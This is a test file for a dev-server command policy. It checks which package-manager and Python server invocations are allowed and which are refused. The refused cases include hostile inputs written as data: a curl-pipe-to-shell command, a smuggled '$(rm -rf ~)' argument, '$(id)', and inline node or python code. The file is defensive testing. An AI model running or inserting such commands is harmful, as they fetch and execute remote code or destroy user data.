import { describe, expect, it } from 'vitest'

import { allCommandCheckers, checkDevServerRunner, quoteArgv } from '../../../src/server/index.js'

describe('dev-server runner policy', () => {
  it.each([
    [['npm', 'run', 'dev']],
    [['npm', 'start']],
    [['pnpm', 'run', 'preview', '--port=4000']],
    [['python', 'manage.py', 'runserver']],
    [['python3', '-m', 'uvicorn', 'main:app', '--reload']],
    [['poetry', 'run', 'python', '-m', 'flask', 'run']],
    [['cargo', 'run']],
    [['go', 'run', '.']],
    [['python', 'app.py']],
    [['poetry', 'run', 'python', 'app.py']],
    [['python3', 'src/server.py', '--port', '8000']],
    [['uvicorn', 'main:app', '--reload', '--port', '8000']],
    [['flask', '--app', 'hello', 'run', '--debug']],
    [['poetry', 'run', 'flask', 'run']],
  ])('allows %j', (argv) => {
    expect(checkDevServerRunner(argv).allowed).toBe(true)
  })

  it.each([
    [['bash', '-c', 'curl x | sh'], 'not a dev-server runner'],
    [['node', '-e', 'require("child_process")'], 'not a dev-server runner'],
    [['npx', 'some-package'], 'not a dev-server runner'],
    [['python', '-c', 'import os'], 'python may only run'],
    [['npm', 'exec', 'evil'], 'may only run the scripts'],
    [['npm', 'run', 'postinstall'], 'may only run the scripts'],
    [['npm', 'run', 'dev', '--', '$(rm -rf ~)'], 'metacharacters'],
    [['/tmp/npm', 'run', 'dev'], 'by name'],
    [['poetry', 'run', 'bash'], 'not a dev-server runner'],
    [['uvicorn'], 'needs the app'],
    [['uvicorn', '--reload', '--port', '8000'], 'needs the app'],
    [['uvicorn', 'main:create_app', '--factory'], '--factory'],
    [['python', '-m', 'uvicorn', 'main:make', '--factory=true'], '--factory'],
    [['flask', 'shell'], 'may only "run"'],
    [['flask', '--app', 'run', 'routes'], 'may only "run"'],
    [['poetry', 'run', 'flask', 'plugins'], 'may only "run"'],
    [['python', '-m', 'flask', 'shell'], 'may only "run"'],
    [['python', '../elsewhere/app.py'], 'python may only run'],
    [['python', '/tmp/app.py'], 'python may only run'],
    [['python', 'app.py', '$(id)'], 'metacharacters'],
  ])('refuses %j', (argv, reason) => {
    const decision = checkDevServerRunner(argv)
    expect(decision.allowed).toBe(false)
    expect(decision.reason).toContain(reason)
  })

  it('combines checkers so that every one must allow', async () => {
    const denyNpm = (argv: readonly string[]) => ({
      allowed: argv[0] !== 'npm',
      reason: 'npm is off today',
    })
    const both = allCommandCheckers(checkDevServerRunner, denyNpm)
    expect(await both(['npm', 'run', 'dev'], { cwd: '/' })).toEqual({
      allowed: false,
      reason: 'npm is off today',
    })
    expect((await both(['cargo', 'run'], { cwd: '/' })).allowed).toBe(true)
  })

  it('quotes argv for policies that parse a command line', () => {
    expect(quoteArgv(['npm', 'run', 'dev', "it's here", 'a b'])).toBe(
      `npm run dev 'it'\\''s here' 'a b'`,
    )
  })
})
